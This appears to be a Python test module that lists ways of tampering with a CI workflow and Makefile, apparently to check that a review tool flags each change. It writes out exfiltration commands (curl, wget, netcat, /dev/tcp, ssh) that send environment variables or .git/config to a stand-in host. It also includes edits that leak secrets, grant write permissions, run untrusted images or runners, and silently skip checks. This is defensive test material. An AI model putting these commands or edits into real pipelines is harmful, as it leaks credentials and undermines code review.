"""Ways to make a gate lie: who else runs beside the checks, when they run, and with what base."""

from attacks.attack import replace
from attacks.variants import joined, told
from attacks.workflow import CI, PULL, before, run, step

SENT = {
    "with curl": 'curl -d "$(env)" example.com',
    "with wget": "wget --post-file=.git/config example.com",
    "with netcat": "nc example.com 9 < .git/config",
    "with the shell": "env > /dev/tcp/example.com/9",
    "with ssh": "ssh a@example.com env",
}


ATTACKS = joined(
    *(
        told(
            f"a secret used as {text}",
            step(f"        env:\n          A: ${{{{ {text} }}}}\n"),
            "tree-secret-used",
        )
        for text in ("secrets.A", "secrets['A']", "toJSON(secrets)", "github.token")
    ),
    told(
        "all secrets handed on",
        replace(PULL, "    with:\n      base:", "    secrets: inherit\n    with:\n      base:"),
        "tree-secret-used",
        "stranger-runs",
    ),
    *(
        told(
            f"what the machine knows sent away {how}",
            before(f"run: {command}"),
            "tree-sends-away",
            "step-added",
        )
        for how, command in SENT.items()
    ),
    *(
        told(
            f"a job that may write {right}",
            replace(
                CI,
                "      contents: read # the code\n    steps:",
                f"      contents: read # the code\n      {right}: write\n    steps:",
            ),
            "tree-right-to-write",
            "permission-changed",
        )
        for right in ("id-token", "packages", "actions", "statuses")
    ),
    told(
        "checks in a stranger's image",
        replace(
            CI, "    name: every check\n", "    name: every check\n    container: stranger/python\n"
        ),
        "tree-image-of-others",
        "stranger-runs",
    ),
    told(
        "a stranger's service beside",
        replace(
            CI,
            "    name: every check\n",
            "    name: every check\n    services:\n      a:\n        image: stranger/a\n",
        ),
        "tree-image-of-others",
        "stranger-runs",
    ),
    told(
        "a stranger's machine",
        replace(
            CI,
            "    runs-on: ubuntu-24.04\n    timeout-minutes: 30",
            "    runs-on: [self-hosted]\n    timeout-minutes: 30",
        ),
        "stranger-runs",
    ),
    told("a step only sometimes", step("        if: github.actor != 'me'\n"), "check-conditional"),
    told(
        "no pull request",
        replace(PULL, "  pull_request:\n", "  workflow_dispatch:\n"),
        "check-conditional",
    ),
    told(
        "only some files",
        replace(PULL, "  pull_request:\n", "  pull_request:\n    paths: [docs/**]\n"),
        "check-conditional",
    ),
    told(
        "a day that never comes",
        replace(".github/workflows/weekly.yml", '"17 5 * * 1"', '"17 5 31 2 *"'),
        "schedule-changed",
    ),
    told(
        "another base in a workflow",
        replace(PULL, "base: origin/${{ github.base_ref }}", "base: HEAD"),
        "base-chosen",
    ),
    told(
        "another base in make",
        replace(
            "Makefile",
            '$(if $(BASE),--base "$(BASE)") $(if $(BUCKET)',
            "--base HEAD $(if $(BUCKET)",
        ),
        "base-chosen",
    ),
    told(
        "no base",
        replace("Makefile", '-m review $(if $(BASE),--base "$(BASE)")', "-m review"),
        "base-chosen",
    ),
    told(
        "another option beside the base",
        replace("Makefile", '--last "$(LAST)"', "--last 1"),
        "command-changed",
    ),
    told(
        "the report in a pipe, with its base",
        replace(CI, 'make review BASE="$BASE"', 'make review BASE="$BASE" | tee log'),
        "tree-status-swallowed",
    ),
    told("another base in a command", run("make review BASE=HEAD"), "base-chosen"),
)
